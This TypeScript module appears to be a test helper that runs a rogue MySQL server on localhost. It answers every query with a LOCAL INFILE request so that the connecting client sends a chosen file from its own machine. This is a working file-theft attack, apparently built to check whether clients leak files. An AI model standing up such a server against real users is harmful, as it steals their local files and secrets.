/** A server that calls itself MySQL and answers every statement by asking for a file of the client's machine. */
import { createServer, type AddressInfo, type Socket } from "node:net";

/** Capabilities of MySQL's protocol: dev.mysql.com/doc/dev/mysql-server/latest/group__group__cs__capabilities__flags.html */
export const LOCAL_FILES = 0x80;
const CAPABILITIES = LOCAL_FILES | 0x2 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x8_0000;
/** Begins an answer that names a file, which the client sends then. */
const LOCAL_INFILE = 0xfb;
export const OK = Buffer.from([0, 0, 0, 2, 0, 0, 0]);

interface RogueServer {
  port: number;
  /** The capabilities that the client has claimed. */
  capabilities(): number;
  /** The number of files that were asked for. */
  asked(): number;
  /** Everything that the client has sent. */
  received(): string;
  close(): void;
}

/** Asks for `file` instead of answering a statement. */
export async function startRogueMysql(file: string): Promise<RogueServer> {
  const received: Buffer[] = [];
  const sockets = new Set<Socket>();
  let capabilities = 0;
  let asked = 0;
  const server = createServer((socket) => {
    sockets.add(socket);
    let isSignedIn = false;
    socket.write(toPacket(0, createGreeting()));
    socket.on("error", () => undefined);
    socket.on("data", (chunk) => {
      received.push(chunk);
      if (isSignedIn && chunk[3] === 0) {
        asked += 1;
        socket.write(toPacket(1, Buffer.concat([Buffer.from([LOCAL_INFILE]), Buffer.from(file)])));
      } else if (!isSignedIn) {
        isSignedIn = true;
        capabilities = chunk.readUInt32LE(4);
        socket.write(toPacket(2, OK));
      }
    });
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return {
    port: (server.address() as AddressInfo).port,
    capabilities: () => capabilities,
    asked: () => asked,
    received: () => Buffer.concat(received).toString("latin1"),
    close() {
      for (const socket of sockets) socket.destroy();
      server.close();
    },
  };
}

export function toPacket(sequence: number, body: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUIntLE(body.length, 0, 3);
  head[3] = sequence;
  return Buffer.concat([head, body]);
}

/** The first packet of version 10 of the protocol. The challenge is never checked. */
export function createGreeting(): Buffer {
  const fixed = Buffer.alloc(20);
  fixed.writeUInt32LE(1, 0);
  fixed.fill("a", 4, 12);
  fixed.writeUInt16LE(CAPABILITIES & 0xffff, 13);
  fixed[15] = 45; // utf8mb4
  fixed.writeUInt16LE(CAPABILITIES >>> 16, 18);
  const [version, challenge] = [Buffer.from("\n8.0.36\0"), Buffer.from("bbbbbbbbbbbb\0")];
  return Buffer.concat([
    ...[version, fixed, Buffer.from([21]), Buffer.alloc(10), challenge],
    Buffer.from("mysql_native_password\0"),
  ]);
}
